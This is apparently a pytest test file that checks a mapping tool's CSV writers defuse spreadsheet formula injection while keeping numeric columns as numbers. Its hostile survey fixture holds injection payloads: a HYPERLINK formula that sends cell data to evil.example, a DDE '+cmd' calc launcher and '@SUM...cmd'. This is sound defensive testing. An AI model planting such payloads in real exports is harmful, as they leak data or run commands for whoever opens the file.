"""CSV formula injection (issue #12, point 5): no CSV written for people holds a text cell that
a spreadsheet would run as a formula; numeric columns stay numbers.

One hostile survey goes through every CSV writer: ``build`` (``build/actors.csv`` and every CSV
of the site: downloads, synergies, diagnostic), ``export --format csv`` with and without
``--excel``, ``export --format datainclusion`` and ``geocode``.
"""

from __future__ import annotations

import csv
import io
import os
from pathlib import Path

import pandas as pd
import pytest
from _project import make
from click.testing import CliRunner

from safi_map.cli.main import cli
from safi_map.core.csvsafe import (
    FORMULA_PREFIXES,
    neutralise,
    neutralise_frame,
    neutralise_values,
    safe_cell,
    safe_row,
)

pytestmark = pytest.mark.slow  # whole builds; the README's command runs them

PAYLOAD = '=HYPERLINK("https://evil.example/?x="&A1;"Cliquez")'
SURVEY = (
    "Nom;Thématique(s);Présentation;Adresse;Code postal;Ville;Courriel;Tel;Besoins;Ressources;"
    "Accord de publication\n"
    f'"{PAYLOAD.replace(chr(34), chr(34) * 2)}";Culture;+cmd|\' /C calc\'!A0;"\t=1+1";13001;'
    "Marseille;a@example.org;+33 4 91 00 00 00;Des locaux;Formation;oui\n"
    "@SUM(1+1)*cmd;Culture;-2+3;3 rue Haute;13001;Marseille;b@example.org;04 91 00 00 01;"
    "Formation;Des locaux;oui\n"
    "Les Amis du Quartier;Culture;\"\r=1+2 en tête\";1 place Basse;13002;Marseille;c@example.org;"
    "+33 4 91 00 00 02;Formation;Des locaux;oui\n"
    "-Moins Association;Culture;Description sage;;06000;Nice;;;Des locaux;Formation;non\n"
)

# Headers of columns that hold numbers (any CSV below): their cells may start with "-".
NUMERIC_HEADERS = {"latitude", "longitude", "geocode_score", "Distance (km)", "Score", "Rang",
                   "Population", "Structures", "Structures pour 10 000 habitants"}


def run(args: list[str], cwd: Path) -> str:
    old = os.getcwd()
    os.chdir(cwd)
    try:
        result = CliRunner().invoke(cli, args, catch_exceptions=False)
    finally:
        os.chdir(old)
    assert result.exit_code in (0, 1), result.output
    return result.output


@pytest.fixture(scope="module")
def outputs(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    project = make(tmp_path_factory.mktemp("hostile"), surveys={"hostile.csv": SURVEY},
                   tour='[[stops]]\nid = "marseille"\ntown = "Marseille"\n'
                        'insee_code = "13055"\ndate = 2026-11-28\n'
                        'surveys = ["surveys/hostile.csv"]\n').root
    run(["build"], project)
    exports = project / "exports"
    run(["export", "--format", "csv", "-o", str(exports / "a.csv")], project)
    run(["export", "--format", "csv", "--excel", "-o", str(exports / "excel.csv")], project)
    run(["export", "--format", "datainclusion", "-o", str(exports / "di.json")], project)
    survey = project / "data" / "surveys" / "hostile.csv"
    run(["geocode", str(survey), "-o", str(exports / "geocoded.csv")], project)
    found = {p.relative_to(project).as_posix(): p for p in sorted(project.rglob("*.csv"))
             if "surveys" not in p.parts and "cache" not in p.parts}
    return found


def _rows(path: Path) -> list[list[str]]:
    text = path.read_text(encoding="utf-8-sig")
    first = text.split("\n", 1)[0]
    sep = ";" if first.count(";") > first.count(",") else ","
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=sep))


@pytest.mark.slow
def test_every_csv_output_is_found(outputs: dict[str, Path]) -> None:
    names = set(outputs)
    for expected in ("build/actors.csv", "build/site/donnees/acteurs.csv",
                     "build/site/synergies/mises-en-relation.csv",
                     "build/site/diagnostic/couverture-communes.csv",
                     "build/site/diagnostic/couverture-epci.csv",
                     "build/site/diagnostic/couverture-departements.csv",
                     "exports/a.csv", "exports/excel.csv", "exports/di.csv",
                     "exports/geocoded.csv"):
        assert expected in names, sorted(names)


def test_no_text_cell_starts_a_formula(outputs: dict[str, Path]) -> None:
    bad = []
    for name, path in outputs.items():
        rows = _rows(path)
        header = rows[0]
        assert not any(h.startswith(FORMULA_PREFIXES) for h in header), (name, header)
        for number, row in enumerate(rows[1:], start=2):
            for head, cell in zip(header, row, strict=True):
                if not cell.startswith(FORMULA_PREFIXES):
                    continue
                if head in NUMERIC_HEADERS:
                    float(cell.replace(",", "."))  # a number, not text
                    continue
                bad.append((name, number, head, cell))
    assert bad == []


def test_the_payloads_are_there_as_text(outputs: dict[str, Path]) -> None:
    """The check above is not vacuous: the hostile values are written, quoted."""
    for name in ("build/actors.csv", "build/site/donnees/acteurs.csv", "exports/a.csv",
                 "exports/excel.csv", "exports/di.csv"):
        cells = {c for row in _rows(outputs[name]) for c in row}
        assert "'" + PAYLOAD in cells, name
        assert "'@SUM(1+1)*cmd" in cells, name
    pairs = {c for row in _rows(outputs["build/site/synergies/mises-en-relation.csv"])
             for c in row}
    assert "'" + PAYLOAD in pairs and "'@SUM(1+1)*cmd" in pairs
    actors = pd.read_csv(outputs["build/actors.csv"], dtype=str, keep_default_na=False)
    assert "'-2+3" in set(actors["description"])
    assert "'=1+1" in set(actors["address"])  # (the tab is trimmed by the reader)


def test_numbers_stay_numbers(outputs: dict[str, Path]) -> None:
    actors = pd.read_csv(outputs["build/actors.csv"])
    assert pd.api.types.is_float_dtype(actors["latitude"])
    assert pd.api.types.is_float_dtype(actors["longitude"])
    geocoded = pd.read_csv(outputs["exports/geocoded.csv"])
    assert pd.api.types.is_float_dtype(geocoded["latitude"])


def test_neutralise_rules() -> None:
    for prefix in FORMULA_PREFIXES:
        assert neutralise(prefix + "x") == "'" + prefix + "x"
    assert neutralise("Maison des Solidarités") == "Maison des Solidarités"
    assert neutralise("") == ""
    assert neutralise("a=b") == "a=b"
    assert safe_cell(-5.2) == -5.2 and safe_cell(-3) == -3 and safe_cell(None) is None
    assert neutralise_values(["=1", -1.5, None, "ok", ["x"]]) == ["'=1", -1.5, None, "ok", ["x"]]
    assert safe_row(["-1", "-2,5", "@x"], numeric=[1]) == ["'-1", "-2,5", "'@x"]
    frame = pd.DataFrame({"name": ["=1", "b"], "latitude": [-5.2, 43.0], "n": [-1, 2]})
    safe = neutralise_frame(frame)
    assert safe["name"].tolist() == ["'=1", "b"]
    assert safe["latitude"].tolist() == [-5.2, 43.0] and safe["n"].tolist() == [-1, 2]
    assert frame["name"].tolist() == ["=1", "b"]  # a copy
